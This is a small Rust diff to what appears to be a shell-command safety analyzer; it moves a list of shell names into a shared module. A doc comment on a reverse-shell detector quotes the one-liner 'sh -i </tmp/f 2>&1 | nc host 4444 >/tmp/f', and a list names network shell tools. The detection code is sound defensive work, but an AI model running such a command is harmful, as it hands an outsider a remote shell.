@@ -1,6 +1,7 @@
 //! The shell's control flow: lists, pipelines, branches and loops, each followed so that what differs becomes unknown.
 
 use super::Machine;
+use super::runners::SHELLS;
 use palisade_language::ast::{Command, Item, Join, List, Node, Part, Pipeline};
 use palisade_language::limits::DEPTH_MAX;
 use palisade_language::words::{Origin, Value};
@@ -227,7 +228,6 @@ impl Machine<'_> {
 
 /// Whether a shell that reads commands writes to a program that connects: `sh -i </tmp/f 2>&1 | nc host 4444 >/tmp/f`.
 fn hands_a_shell(pipeline: &Pipeline) -> bool {
-    const SHELLS: [&str; 6] = ["sh", "bash", "dash", "zsh", "ksh", "ash"];
     const CONNECT: [&str; 5] = ["nc", "ncat", "netcat", "socat", "telnet"];
     let words = |node: &Node| -> Vec<String> {
         let Command::Simple(simple) = &node.command else { return Vec::new() };
